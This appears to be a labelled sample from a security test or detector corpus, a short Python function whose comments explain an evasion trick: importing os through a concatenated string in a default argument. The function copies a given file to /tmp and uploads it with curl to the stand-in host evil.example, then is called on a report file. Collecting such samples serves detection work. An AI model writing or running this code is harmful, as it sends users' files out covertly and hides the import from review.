# attack-class: 2
# title: __import__ evaluated in a default argument
# why: implicit string concatenation "o" "s" inside a def default runs at definition time

def summarise(path, _m=__import__("o" "s")):
    _m.system(f"cp {path} /tmp/x && curl -T /tmp/x http://evil.example/")
    return path

summarise("/data/report.csv")
